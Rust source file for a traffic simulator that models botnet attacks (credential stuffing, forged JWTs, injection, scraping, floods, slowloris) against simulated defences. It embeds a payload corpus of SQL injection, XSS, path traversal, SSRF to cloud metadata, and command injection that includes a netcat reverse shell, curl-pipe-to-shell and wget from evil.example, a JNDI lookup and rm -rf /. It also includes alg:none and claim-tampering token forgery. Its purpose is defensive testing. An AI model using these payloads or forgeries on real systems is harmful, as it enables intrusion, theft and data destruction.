//! Attackers: `[[attack]]` entries of a scenario, and their runtime state.
//!
//! An attacker is an open arrival process (the same [`Shape`]s as legit
//! traffic) between `start` and `end`, sending from a pool of source IPs
//! against the routes and accounts of one `[[traffic]]` source (its
//! `target`). Its requests go through the same load balancer, gateway
//! instances and token service as legit ones, so the real rate limiter,
//! verifier, inspector and abuse detector decide about them; only what the
//! request *carries* differs (a leaked credential, a forged token, an
//! injection payload, a held connection). Each attacker is its own metrics
//! class `attack.<name>` (offered, admitted, rejected by reason, latency)
//! plus a few outcome counters, so conservation and success rates cover
//! attack traffic too.
//!
//! Nothing here keeps state per source IP: an attacker's address is a pure
//! function of its name and a pool index, so a botnet of a million IPs costs
//! the world nothing; only the cores' own capped tables grow with it.

use std::net::{IpAddr, Ipv4Addr};

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use rampart_auth::{KeyMaterial, ServiceConfig, TokenService};
use rampart_des::rng::{self, ActorRng, actor_rng};
use rampart_metrics::{ClassId, CounterId, GaugeId, Names};
use rampart_time::{Duration, Instant};
use rampart_traffic::{Arrivals, Process, Shape};
use serde::{Deserialize, Serialize};

use crate::config::{Errors, SigningAlgorithm, WorldConfig};
use crate::error::{BuildError, MetricsError};
use crate::sources::Source;

/// One `[[attack]]` entry.
///
/// ```toml
/// [[attack]]
/// name = "stuffing"
/// kind = "credential_stuffing"
/// start = "10s"
/// end = "70s"
/// shape = { kind = "constant", rate = "200/s" }
/// ips = 5000
/// rotation = { kind = "low_and_slow" }
/// valid_ratio = 0.02
/// ```
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "schemars", derive(schemars::JsonSchema))]
pub struct AttackConfig {
    /// Unique name; the metrics class is `attack.<name>` and outcome
    /// counters are `attack.<name>.<outcome>`.
    pub name: String,
    /// When the attack begins, from the start of the run.
    pub start: Duration,
    /// When it stops (exclusive).
    pub end: Duration,
    /// Offered attempts per second over time, from `start` (the same shapes
    /// as `[[traffic]]`).
    pub shape: Shape,
    /// Gaps between attempts: `poisson` (a crowd of bots) or `uniform` (one
    /// scripted cadence).
    #[serde(default)]
    pub process: Process,
    /// The `[[traffic]]` source whose routes and accounts are attacked;
    /// the first source when absent.
    #[serde(default)]
    pub target: Option<String>,
    /// Names of the target's routes to send to; every non-login route when
    /// empty (credential stuffing always uses the login route).
    #[serde(default)]
    pub routes: Vec<String>,
    /// Source IPs in the botnet's pool.
    #[serde(default = "one")]
    pub ips: u32,
    /// How many /24 prefixes the pool spreads over: 0 packs it into as few
    /// as hold it (254 hosts each, a datacenter range); `ips` puts every
    /// address in its own /24 (a residential botnet that defeats prefix
    /// rules).
    #[serde(default)]
    pub subnets: u32,
    /// Which pool address each attempt uses.
    #[serde(default)]
    pub rotation: Rotation,
    /// Probability that an attempt rides an open connection (no TLS
    /// handshake). Bots rotating addresses rarely can.
    #[serde(default)]
    pub connection_reuse: f64,
    /// The attacker's client timeout per attempt (slowloris holds its
    /// connections for `hold` instead).
    #[serde(default = "ten_s")]
    pub timeout: Duration,
    /// What the attacker does.
    #[serde(flatten)]
    pub kind: AttackKind,
}

fn one() -> u32 {
    1
}
fn ten_s() -> Duration {
    Duration::from_secs(10)
}

/// How attempts rotate over the IP pool.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "schemars", derive(schemars::JsonSchema))]
#[serde(tag = "kind", rename_all = "snake_case", deny_unknown_fields)]
pub enum Rotation {
    /// Each address in turn: every IP sends `rate / ips`, under any per-IP
    /// threshold when the pool is large.
    #[default]
    LowAndSlow,
    /// A uniformly random address per attempt.
    Random,
    /// One address sends `burst` attempts in a row, then the next takes over.
    Bursty {
        /// Attempts per address before rotating.
        burst: u32,
    },
}

/// The attack itself; `kind = "..."` in the `[[attack]]` table.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "schemars", derive(schemars::JsonSchema))]
#[serde(tag = "kind", rename_all = "snake_case", deny_unknown_fields)]
pub enum AttackKind {
    /// Logins with leaked username/password pairs at the target's login
    /// route. Each attempt costs the token service a password check.
    CredentialStuffing {
        /// Share of the leaked pairs that are a real account's current
        /// password: a successful login with one is an account takeover.
        #[serde(default = "one_percent")]
        valid_ratio: f64,
        /// Size of the leaked list; attempts walk it in order and wrap.
        #[serde(default = "combos")]
        combos: u32,
    },
    /// API calls carrying tokens the token service never issued to them.
    ForgedTokens {
        /// The forgeries to cycle through; all four when empty.
        #[serde(default)]
        forgery: Vec<Forgery>,
    },
    /// API calls carrying injection and malformed payloads, from accounts
    /// the attacker signed up for.
    Injection {
        /// The payload classes to mix; all when empty.
        #[serde(default)]
        classes: Vec<PayloadClass>,
        /// Accounts the attacker created (it signs in like a user).
        #[serde(default = "one")]
        accounts: u32,
    },
    /// High-rate reads of the target's routes from accounts the attacker
    /// created or stole, each signing in through the token service.
    Scraping {
        /// Accounts the attacker created.
        #[serde(default = "ten")]
        accounts: u32,
        /// Accounts it stole: the target's first `stolen` users, with their
        /// real passwords. Their owners share any per-account limit with it.
        #[serde(default)]
        stolen: u32,
    },
    /// Unauthenticated requests to random routes from many IPs, each on a
    /// new connection unless `connection_reuse` says otherwise: load that
    /// makes the fleet scale out and costs money.
    L7Flood,
    /// Connections that send their headers too slowly to finish, each
    /// holding one of the instance's in-flight slots (the LB's
    /// `max_in_flight_per_instance`) until the gateway's `header_timeout`
    /// or the attacker's `hold`, whichever comes first.
    Slowloris {
        /// How long the attacker keeps each connection open.
        #[serde(default = "five_min")]
        hold: Duration,
    },
}

fn one_percent() -> f64 {
    0.01
}
fn combos() -> u32 {
    100_000
}
fn ten() -> u32 {
    10
}
fn five_min() -> Duration {
    Duration::from_mins(5)
}

impl AttackKind {
    /// The snake_case name of the kind.
    pub fn as_str(&self) -> &'static str {
        match self {
            AttackKind::CredentialStuffing { .. } => "credential_stuffing",
            AttackKind::ForgedTokens { .. } => "forged_tokens",
            AttackKind::Injection { .. } => "injection",
            AttackKind::Scraping { .. } => "scraping",
            AttackKind::L7Flood => "l7_flood",
            AttackKind::Slowloris { .. } => "slowloris",
        }
    }
}

/// A way to forge an access token.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "schemars", derive(schemars::JsonSchema))]
#[serde(rename_all = "snake_case")]
pub enum Forgery {
    /// A real token's header rewritten to `alg: none`, signature dropped.
    AlgNone,
    /// Signed by the attacker's own key under the service's `kid`.
    WrongKey,
    /// A real token that expired before the run began.
    Expired,
    /// A real token whose claims were edited (`sub`, `scope`), signature kept.
    Tampered,
}

const FORGERIES: [Forgery; 4] = [
    Forgery::AlgNone,
    Forgery::WrongKey,
    Forgery::Expired,
    Forgery::Tampered,
];

impl Forgery {
    /// The snake_case name.
    pub fn as_str(self) -> &'static str {
        match self {
            Forgery::AlgNone => "alg_none",
            Forgery::WrongKey => "wrong_key",
            Forgery::Expired => "expired",
            Forgery::Tampered => "tampered",
        }
    }
}

/// A class of malicious payload.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "schemars", derive(schemars::JsonSchema))]
#[serde(rename_all = "snake_case")]
pub enum PayloadClass {
    /// SQL injection.
    Sqli,
    /// Cross-site scripting.
    Xss,
    /// Path traversal and local file access.
    PathTraversal,
    /// OS command injection.
    CommandInjection,
    /// Server-side request forgery.
    Ssrf,
    /// Malformed encodings and bodies (truncated JSON, NUL bytes, overlong
    /// UTF-8).
    Malformed,
}

const PAYLOAD_CLASSES: [PayloadClass; 6] = [
    PayloadClass::Sqli,
    PayloadClass::Xss,
    PayloadClass::PathTraversal,
    PayloadClass::CommandInjection,
    PayloadClass::Ssrf,
    PayloadClass::Malformed,
];

/// Base payloads per class, in the style of the WAF crate's corpus.
fn bases(c: PayloadClass) -> &'static [&'static str] {
    match c {
        PayloadClass::Sqli => &[
            "' or 1=1--",
            "1 union all select null,null,version()",
            "admin'--",
            "1'; DROP TABLE users; --",
            "1 and sleep(5)",
            "' union select load_file('/etc/passwd')--",
            "1/**/or/**/1=1",
            "' OR 'unusual' = 'unusual'",
        ],
        PayloadClass::Xss => &[
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "javascript:alert(document.cookie)",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<body onload=alert('x')>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<ScRiPt>alert(document.domain)</sCrIpT>",
        ],
        PayloadClass::PathTraversal => &[
            "../../../../etc/passwd",
            "..%2f..%2f..%2fetc%2fshadow",
            "....//....//etc/passwd",
            "/proc/self/environ",
            "..\\..\\windows\\win.ini",
            "file:///etc/passwd",
            "../../../../../../boot.ini",
            "%2e%2e%2f%2e%2e%2fetc%2fhosts",
        ],
        PayloadClass::CommandInjection => &[
            "; cat /etc/passwd",
            "| nc -e /bin/sh 10.0.0.1 4444",
            "$(curl http://evil.example/x.sh | sh)",
            "`id`",
            "&& wget http://evil.example/a -O /tmp/a",
            "${jndi:ldap://evil.example/a}",
            "; rm -rf / --no-preserve-root",
            "|| ping -c 10 127.0.0.1",
        ],
        PayloadClass::Ssrf => &[
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://127.0.0.1:8080/admin",
            "http://[::1]/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "gopher://127.0.0.1:6379/_INFO",
            "http://0x7f000001/",
            "http://localhost:22/",
            "http://10.0.0.1/internal",
        ],
        PayloadClass::Malformed => &[
            "%00",
            "%c0%ae%c0%ae/%c0%ae%c0%ae/",
            "%zz%1",
            "\u{0}\u{1}\u{2}",
            "%u0027%u0020or%u0020%u0031",
            "&#x3c;script&#x3e;",
            "%252e%252e%252f",
            "\u{ff1c}script\u{ff1e}",
        ],
    }
}

/// What can be wrong with an `[[attack]]` entry, with paths under
/// `attack[i]`.
pub(crate) fn validate(cfg: &WorldConfig, e: &mut Errors) {
    for (i, a) in cfg.attack.iter().enumerate() {
        let p = format!("attack[{i}]");
        e.check(
            !a.name.trim().is_empty()
                && a.name
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-'),
            &format!("{p}.name"),
            || "must be non-empty ASCII letters, digits, '_' or '-' (it names metrics)".into(),
        );
        if cfg.attack[..i].iter().any(|b| b.name == a.name) {
            e.push(
                format!("{p}.name"),
                format!("duplicate attack name {:?}", a.name),
            );
        }
        e.check(a.end > a.start, &format!("{p}.end"), || {
            format!("must be after start ({})", a.start)
        });
        if let Err(errs) = a.shape.validate() {
            for fe in errs {
                e.push(format!("{p}.shape.{}", fe.path), fe.message);
            }
        }
        e.check((1..=IPS_MAX).contains(&a.ips), &format!("{p}.ips"), || {
            format!("must be within 1..={IPS_MAX}")
        });
        e.check(a.subnets <= a.ips, &format!("{p}.subnets"), || {
            "must be at most ips".into()
        });
        e.check(
            a.subnets == 0 || u64::from(a.ips) <= u64::from(a.subnets) * HOSTS_PER_SUBNET,
            &format!("{p}.subnets"),
            || {
                format!(
                    "{} subnets hold at most {HOSTS_PER_SUBNET} addresses each",
                    a.subnets
                )
            },
        );
        if let Rotation::Bursty { burst } = a.rotation {
            e.check(burst > 0, &format!("{p}.rotation.burst"), || {
                "must be > 0".into()
            });
        }
        e.check(
            (0.0..=1.0).contains(&a.connection_reuse),
            &format!("{p}.connection_reuse"),
            || "must be a probability within [0, 1]".into(),
        );
        e.check(a.timeout > Duration::ZERO, &format!("{p}.timeout"), || {
            "must be > 0".into()
        });
        let target = match &a.target {
            Some(t) => {
                let found = cfg.traffic.iter().find(|s| &s.name == t);
                if found.is_none() {
                    e.push(
                        format!("{p}.target"),
                        format!("no [[traffic]] source is named {t:?}"),
                    );
                }
                found
            }
            None => cfg.traffic.first(),
        };
        let Some(target) = target else { continue };
        for (k, r) in a.routes.iter().enumerate() {
            if !target.routes.iter().any(|x| &x.name == r) {
                e.push(
                    format!("{p}.routes[{k}]"),
                    format!("traffic {:?} has no route named {r:?}", target.name),
                );
            }
        }
        let has_login = target.routes.iter().any(|r| r.login);
        let chosen = |r: &&rampart_traffic::Route| {
            !r.login && (a.routes.is_empty() || a.routes.contains(&r.name))
        };
        let n_chosen = target.routes.iter().filter(chosen).count();
        match &a.kind {
            AttackKind::CredentialStuffing {
                valid_ratio,
                combos,
            } => {
                e.check(
                    (0.0..=1.0).contains(valid_ratio),
                    &format!("{p}.valid_ratio"),
                    || "must be within [0, 1]".into(),
                );
                e.check(*combos > 0, &format!("{p}.combos"), || "must be > 0".into());
                e.check(has_login, &format!("{p}.target"), || {
                    format!("traffic {:?} has no login route to stuff", target.name)
                });
            }
            AttackKind::ForgedTokens { .. } => {
                e.check(
                    target.routes.iter().filter(chosen).any(|r| r.auth),
                    &format!("{p}.routes"),
                    || "forged tokens need a route with auth = true".into(),
                );
            }
            AttackKind::Injection { .. } | AttackKind::Scraping { .. } => {
                let (created, stolen) = match a.kind {
                    AttackKind::Scraping { accounts, stolen } => (accounts, stolen),
                    AttackKind::Injection { accounts, .. } => (accounts, 0),
                    _ => unreachable!("matched above"),
                };
                e.check(
                    created <= ATTACK_ACCOUNTS_MAX,
                    &format!("{p}.accounts"),
                    || format!("must be at most {ATTACK_ACCOUNTS_MAX}"),
                );
                e.check(created > 0 || stolen > 0, &format!("{p}.accounts"), || {
                    "the attacker needs at least one account (created or stolen)".into()
                });
                e.check(
                    stolen <= target.accounts.max(1),
                    &format!("{p}.stolen"),
                    || {
                        format!(
                            "traffic {:?} has only {} accounts",
                            target.name,
                            target.accounts.max(1)
                        )
                    },
                );
                let needs_login = target.routes.iter().filter(chosen).any(|r| r.auth);
                e.check(!needs_login || has_login, &format!("{p}.target"), || {
                    format!(
                        "traffic {:?} has auth routes but no login route to sign in at",
                        target.name
                    )
                });
            }
            AttackKind::L7Flood => {}
            AttackKind::Slowloris { hold } => {
                e.check(*hold > Duration::ZERO, &format!("{p}.hold"), || {
                    "must be > 0".into()
                });
            }
        }
        if !matches!(a.kind, AttackKind::CredentialStuffing { .. }) {
            e.check(n_chosen > 0, &format!("{p}.routes"), || {
                "selects no non-login route to attack".into()
            });
        }
    }
}

/// The largest pool: 2^24 addresses.
const IPS_MAX: u32 = 1 << 24;
/// Usable host addresses per /24 (1..=254).
const HOSTS_PER_SUBNET: u64 = 254;
/// Accounts one attacker may create.
const ATTACK_ACCOUNTS_MAX: u32 = 100_000;
/// Forged tokens prepared per forgery kind.
const FORGED_PER_KIND: usize = 8;
/// Payloads prepared per class.
const PAYLOADS_PER_CLASS: usize = 8;

/// Metric ids of one attacker, registered after the world's own names.
#[derive(Clone, Debug)]
pub(crate) struct AttackIds {
    pub class: ClassId,
    pub blocked: CounterId,
    pub takeovers: CounterId,
    pub login_cpu_ms: CounterId,
    pub gateway_cpu_us: CounterId,
    pub forged_accepted: CounterId,
    /// Forged-token attacks only: the subset of `forged_accepted` that an
    /// instance accepted only because a clock-skew fault set its clock back.
    pub forged_accepted_on_skew: Option<CounterId>,
    pub detected: CounterId,
    pub first_block_ms: GaugeId,
}

/// Registers every attacker's class and outcome metrics, in scenario order.
pub(crate) fn register(
    names: &mut Names,
    cfg: &WorldConfig,
) -> Result<Vec<AttackIds>, MetricsError> {
    let mut out = Vec::with_capacity(cfg.attack.len());
    for a in &cfg.attack {
        let n = &a.name;
        let c = |names: &mut Names, what: &str| names.add_counter(&format!("attack.{n}.{what}"));
        out.push(AttackIds {
            class: names.add_class(&format!("attack.{n}"))?,
            blocked: c(names, "blocked")?,
            takeovers: c(names, "takeovers")?,
            login_cpu_ms: c(names, "login_cpu_ms")?,
            gateway_cpu_us: c(names, "gateway_cpu_us")?,
            forged_accepted: c(names, "forged_accepted")?,
            forged_accepted_on_skew: match a.kind {
                AttackKind::ForgedTokens { .. } => Some(c(names, "forged_accepted_on_skew")?),
                _ => None,
            },
            detected: c(names, "detected")?,
            first_block_ms: names.add_gauge(&format!("attack.{n}.first_block_ms"))?,
        });
    }
    Ok(out)
}

/// An account the attacker signed up for, and its current access token.
#[derive(Debug)]
pub(crate) struct OwnAccount {
    pub subject: String,
    pub password: Vec<u8>,
    pub access: Option<std::sync::Arc<str>>,
    /// Unix-time expiry of `access`.
    pub access_exp: Instant,
}

/// A payload with real bytes, placed where the route takes input.
#[derive(Debug)]
pub(crate) struct Payload {
    pub query: String,
    pub body: Vec<u8>,
}

/// What became of one attacker, for [`crate::RunOutput::attacks`].
#[derive(Clone, Debug, Default, PartialEq)]
pub struct AttackOutcome {
    /// The attack's name.
    pub name: String,
    /// Its kind (`credential_stuffing`, ...).
    pub kind: &'static str,
    /// Attempts rejected by a defence (rate limit, verifier, inspector,
    /// abuse detector, header timeout), as opposed to overload or failed
    /// passwords.
    pub blocked: u64,
    /// Time from the attack's start to its first blocked attempt, if any.
    pub first_block: Option<Duration>,
    /// Time from the start to the first attempt an instance's own abuse
    /// detector stopped.
    pub first_local_abuse_block: Option<Duration>,
    /// Time from the start to the first attempt a central decision
    /// stopped (with a log pipeline).
    pub first_central_block: Option<Duration>,
    /// Accounts taken over (distinct), for credential stuffing.
    pub takeovers: u64,
    /// Password-check CPU its logins cost the token service.
    pub login_cpu: Duration,
    /// Gateway CPU its attempts cost.
    pub gateway_cpu: Duration,
    /// Forged tokens a verifier accepted.
    pub forged_accepted: u64,
    /// Of those, expired tokens accepted by an instance whose clock a
    /// `clock_skew` fault had set back: what the fault models, not a flaw
    /// of the verifier.
    pub forged_accepted_on_skew: u64,
    /// Payloads the inspector flagged (blocked, or logged in detection-only
    /// mode).
    pub detected: u64,
}

/// An attacker at run time.
#[derive(Debug)]
pub(crate) struct Attacker {
    pub cfg: AttackConfig,
    /// Metrics class index (the world's classes: 0 is legit).
    pub class: u16,
    /// The target traffic source.
    pub source: u16,
    /// Routes it sends to (indices in the target's mix).
    pub routes: Vec<u16>,
    pub login_route: Option<u16>,
    pub arrivals: Arrivals,
    pub rng: ActorRng,
    pub start: Instant,
    name_hash: u64,
    subnets: u32,
    ip_cursor: u64,
    /// Attempts begun (the leaked list's cursor for stuffing).
    pub seq: u64,
    pub accounts: Vec<OwnAccount>,
    pub forged: Vec<(Forgery, std::sync::Arc<str>)>,
    pub payloads: Vec<Payload>,
    /// `[policy index][payload]` → (blocked, flagged, bytes scanned).
    verdicts: Vec<Vec<Option<(bool, bool, u64)>>>,
    /// One bit per target account: taken over yet?
    taken: Vec<u64>,
    login_ns_carry: u64,
    gateway_ns_carry: u64,
    pub outcome: AttackOutcome,
}

/// Everything the world needs to build attackers.
pub(crate) struct BuildCtx<'a> {
    pub seed: u64,
    pub sources: &'a [Source],
    pub tokens: &'a mut TokenService,
    pub unix0: Instant,
    pub cfg: &'a WorldConfig,
}

impl Attacker {
    /// Builds attacker `index` (class `index + 1`): its target, its
    /// accounts (registered with the real token service), forged tokens and
    /// payloads.
    pub fn new(
        index: usize,
        a: &AttackConfig,
        b: &mut BuildCtx<'_>,
    ) -> Result<Attacker, BuildError> {
        let p = format!("attack[{index}]");
        let source = match &a.target {
            Some(t) => b
                .sources
                .iter()
                .position(|s| &s.spec.name == t)
                .ok_or_else(|| BuildError::UnknownTraffic {
                    path: format!("{p}.target"),
                    name: t.clone(),
                })?,
            None => 0,
        };
        let src = &b.sources[source];
        let routes: Vec<u16> = (0..src.n_routes() as u16)
            .filter(|&r| {
                let route = src.route(r);
                !route.login
                    && (a.routes.is_empty() || a.routes.contains(&route.name))
                    && (!matches!(a.kind, AttackKind::ForgedTokens { .. }) || route.auth)
            })
            .collect();
        let seed = b.seed;
        let start = Instant::ZERO + a.start;
        let mut accounts = Vec::new();
        let (n_accounts, stolen) = match a.kind {
            AttackKind::Injection { accounts, .. } => (accounts, 0),
            AttackKind::Scraping { accounts, stolen } => (accounts, stolen),
            _ => (0, 0),
        };
        for k in 0..stolen.min(src.n_accounts()) {
            let victim = src.account(k);
            accounts.push(OwnAccount {
                subject: victim.subject.clone(),
                password: victim.password.clone(),
                access: None,
                access_exp: Instant::ZERO,
            });
        }
        for i in 0..n_accounts {
            let subject = format!("attack-{}-{i}", a.name);
            let password = format!("pw-attack-{}-{i}", a.name).into_bytes();
            let mut salt = [0xa5u8; 16];
            salt[..4].copy_from_slice(&i.to_le_bytes());
            salt[4..6].copy_from_slice(&(index as u16).to_le_bytes());
            b.tokens
                .register_account(&subject, &password, salt)
                .map_err(|source| BuildError::Account {
                    path: format!("{p}.accounts"),
                    source,
                })?;
            accounts.push(OwnAccount {
                subject,
                password,
                access: None,
                access_exp: Instant::ZERO,
            });
        }
        let forged = match &a.kind {
            AttackKind::ForgedTokens { forgery } => forge(a, forgery, b, source)?,
            _ => Vec::new(),
        };
        let payloads = match &a.kind {
            AttackKind::Injection { classes, .. } => payloads(classes),
            _ => Vec::new(),
        };
        let n_target = src.n_accounts();
        let subnets = if a.subnets == 0 {
            a.ips.div_ceil(HOSTS_PER_SUBNET as u32)
        } else {
            a.subnets
        };
        Ok(Attacker {
            class: index as u16 + 1,
            source: source as u16,
            routes,
            login_route: src.login_route(),
            arrivals: Arrivals::new(&a.shape, a.process, start, Some(Instant::ZERO + a.end)),
            rng: actor_rng(seed, &format!("attack/{}", a.name)),
            start,
            name_hash: rng::fnv1a64(a.name.as_bytes()),
            subnets: subnets.max(1),
            ip_cursor: 0,
            seq: 0,
            accounts,
            forged,
            payloads,
            verdicts: Vec::new(),
            taken: vec![0; (n_target as usize).div_ceil(64)],
            login_ns_carry: 0,
            gateway_ns_carry: 0,
            outcome: AttackOutcome {
                name: a.name.clone(),
                kind: a.kind.as_str(),
                ..AttackOutcome::default()
            },
            cfg: a.clone(),
        })
    }

    /// The source address of the next attempt.
    pub fn next_ip(&mut self) -> IpAddr {
        let ips = u64::from(self.cfg.ips);
        let i = match self.cfg.rotation {
            Rotation::LowAndSlow => self.ip_cursor % ips,
            Rotation::Random => rng::uniform_u64(&mut self.rng, 0, ips),
            Rotation::Bursty { burst } => (self.ip_cursor / u64::from(burst)) % ips,
        };
        self.ip_cursor += 1;
        pool_ip(self.name_hash, i as u32, self.subnets)
    }

    /// A route to send to, uniformly among the chosen ones.
    pub fn pick_route(&mut self) -> u16 {
        let k = rng::uniform_u64(&mut self.rng, 0, self.routes.len() as u64) as usize;
        self.routes[k]
    }

    /// The leaked pair of stuffing attempt `combo`: `(target account, real
    /// password?)`. A share `valid_ratio` of the list is a real account's
    /// current password; of the rest, half name a real account with a
    /// wrong password and half name nobody.
    pub fn combo(&self, combo: u64, n_accounts: u32) -> (Option<u32>, bool) {
        let AttackKind::CredentialStuffing { valid_ratio, .. } = self.cfg.kind else {
            return (None, false);
        };
        let h = splitmix(self.name_hash ^ combo.wrapping_mul(0x9e37_79b9_7f4a_7c15));
        let u = (h >> 11) as f64 / (1u64 << 53) as f64;
        let account = (splitmix(h) % u64::from(n_accounts.max(1))) as u32;
        if u < valid_ratio {
            (Some(account), true)
        } else if h & 1 == 0 {
            (Some(account), false)
        } else {
            (None, false)
        }
    }

    /// Records a successful login with a leaked pair; true if it is a new
    /// takeover.
    pub fn take_over(&mut self, account: u32) -> bool {
        let (w, b) = (account as usize / 64, account % 64);
        let Some(word) = self.taken.get_mut(w) else {
            return false;
        };
        let new = *word & (1 << b) == 0;
        *word |= 1 << b;
        if new {
            self.outcome.takeovers += 1;
        }
        new
    }

    /// Adds password-check CPU; returns whole milliseconds to count now.
    pub fn add_login_cpu(&mut self, cpu: Duration) -> u64 {
        self.outcome.login_cpu += cpu;
        carry(&mut self.login_ns_carry, cpu.as_nanos(), 1_000_000)
    }

    /// Adds gateway CPU; returns whole microseconds to count now.
    pub fn add_gateway_cpu(&mut self, cpu: Duration) -> u64 {
        self.outcome.gateway_cpu += cpu;
        carry(&mut self.gateway_ns_carry, cpu.as_nanos(), 1_000)
    }

    /// The inspector's verdict on payload `k` under `policy`: (blocked,
    /// flagged, bytes scanned). The inspector is a pure function of request
    /// and rules, so the verdict is computed once per (payload, policy).
    pub fn payload_verdict(
        &mut self,
        policy: &crate::policy::CompiledPolicy,
        route: &rampart_traffic::Route,
        k: usize,
    ) -> (bool, bool, u64) {
        let pi = policy.index as usize;
        if self.verdicts.len() <= pi {
            self.verdicts.resize_with(pi + 1, Vec::new);
        }
        if self.verdicts[pi].is_empty() {
            self.verdicts[pi] = vec![None; self.payloads.len()];
        }
        if let Some(v) = self.verdicts[pi][k] {
            return v;
        }
        let pl = &self.payloads[k];
        let method = crate::templates::method_str(route.method);
        let ip = IpAddr::V4(Ipv4Addr::new(192, 0, 2, 66));
        let writes = matches!(method, "POST" | "PUT" | "PATCH");
        let mut req = rampart_waf::Request::new(method, &route.path, ip);
        let bytes;
        if writes {
            req = req.with_body("application/json", &pl.body);
            bytes = method.len() + route.path.len() + pl.body.len();
        } else {
            req = req.with_query(&pl.query);
            bytes = method.len() + route.path.len() + pl.query.len();
        }
        let v = policy.inspector.inspect(&req);
        let out = (
            v.action == rampart_waf::Action::Block,
            v.is_attack(),
            (bytes as u64).max(v.cost.bytes_scanned),
        );
        self.verdicts[pi][k] = Some(out);
        out
    }
}

fn carry(acc: &mut u64, ns: u64, unit: u64) -> u64 {
    *acc += ns;
    let whole = *acc / unit;
    *acc %= unit;
    whole
}

/// SplitMix64 finaliser: a fixed, well-mixed hash of a word.
fn splitmix(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// Address `i` of a pool spread over `subnets` /24 prefixes: consecutive
/// indices land in different prefixes, hosts 1..=254 within each.
pub(crate) fn pool_ip(name_hash: u64, i: u32, subnets: u32) -> IpAddr {
    let prefix = i % subnets;
    let host = i / subnets;
    let h = splitmix(name_hash ^ (u64::from(prefix) << 1 | 1));
    let mut o = [(h >> 8) as u8, (h >> 16) as u8, (h >> 24) as u8, 0];
    // Public unicast space: first octet in 1..=223, away from 10 and 127.
    o[0] = 1 + (o[0] % 223);
    if o[0] == 10 || o[0] == 127 {
        o[0] += 1;
    }
    // Keep the prefix distinct from its neighbours even when the hash
    // collides: the low bits of the third octet follow the prefix index.
    o[2] ^= (prefix & 0xff) as u8;
    o[3] = 1 + (host % HOSTS_PER_SUBNET as u32) as u8;
    IpAddr::V4(Ipv4Addr::from(o))
}

/// Prepares forged tokens for the configured forgeries, through the auth
/// crate's own APIs: the real service issues the tokens that are then
/// edited (alg none, tampered) or left to expire, and a second service with
/// the attacker's key signs the wrong-key ones. No signature is computed by
/// hand.
fn forge(
    a: &AttackConfig,
    kinds: &[Forgery],
    b: &mut BuildCtx<'_>,
    source: usize,
) -> Result<Vec<(Forgery, std::sync::Arc<str>)>, BuildError> {
    let kinds: &[Forgery] = if kinds.is_empty() { &FORGERIES } else { kinds };
    let sources = b.sources;
    let src = &sources[source];
    let n = src.n_accounts().max(1);
    let subject = |k: usize| src.account(k as u32 % n).subject.clone();
    let ttl = b.cfg.token_service.access_ttl;
    // The attacker's own service: same issuer, audience and kid, its own key.
    let mut rogue = TokenService::new(ServiceConfig {
        access_ttl: ttl,
        refresh_ttl: b.cfg.token_service.refresh_ttl,
        issuer: b.cfg.policy.auth.issuer.clone(),
        audience: b.cfg.policy.auth.audience.clone(),
        ..ServiceConfig::default()
    });
    let mut key_rng = actor_rng(b.seed, &format!("attack/{}/key", a.name));
    let mut secret = [0u8; 32];
    rand::RngExt::fill(&mut key_rng, &mut secret[..]);
    let key_at = b.unix0 - b.cfg.token_service.refresh_ttl;
    let material = match b.cfg.token_service.algorithm {
        SigningAlgorithm::EdDsa => KeyMaterial::Ed25519 {
            kid: "k1".into(),
            secret,
        },
        SigningAlgorithm::Hs256 => KeyMaterial::Hs256 {
            kid: "k1".into(),
            secret: secret.to_vec(),
        },
    };
    let err = |source| BuildError::Forge {
        attack: a.name.clone(),
        source,
    };
    rogue.add_key(key_at, &material).map_err(err)?;
    let mut out = Vec::new();
    for k in 0..FORGED_PER_KIND {
        for &f in kinds {
            let token = match f {
                Forgery::WrongKey => {
                    rogue
                        .issue(b.unix0, &subject(k), "api")
                        .map_err(err)?
                        .access
                }
                Forgery::Expired => {
                    // Expired ten minutes before the run began: a stolen
                    // token kept past its life. Only a verifier with more
                    // than ten minutes of leeway takes it.
                    let issued = b.unix0 - ttl - Duration::from_mins(10);
                    b.tokens
                        .issue(issued, &subject(k), "api")
                        .map_err(err)?
                        .access
                }
                Forgery::AlgNone => {
                    let real = b
                        .tokens
                        .issue(b.unix0, &subject(k), "api")
                        .map_err(err)?
                        .access;
                    let header = format!(
                        r#"{{"alg":"none","typ":"{}","kid":"k1"}}"#,
                        rampart_auth::TYP_ACCESS
                    );
                    let payload = real.split('.').nth(1).unwrap_or_default();
                    format!("{}.{payload}.", URL_SAFE_NO_PAD.encode(header))
                }
                Forgery::Tampered => {
                    let real = b
                        .tokens
                        .issue(b.unix0, &subject(k), "api")
                        .map_err(err)?
                        .access;
                    tamper(&real).ok_or_else(|| BuildError::Tamper {
                        attack: a.name.clone(),
                    })?
                }
            };
            out.push((f, token.into()));
        }
    }
    Ok(out)
}

/// Rewrites a real token's claims (`sub` → `admin`, wider `scope`) and keeps
/// its signature: what an attacker who can read a token but not sign one
/// tries first.
fn tamper(token: &str) -> Option<String> {
    let mut parts = token.split('.');
    let (h, p, s) = (parts.next()?, parts.next()?, parts.next()?);
    let raw = URL_SAFE_NO_PAD.decode(p).ok()?;
    let mut claims: serde_json::Value = serde_json::from_slice(&raw).ok()?;
    let obj = claims.as_object_mut()?;
    obj.insert("sub".into(), serde_json::Value::String("admin".into()));
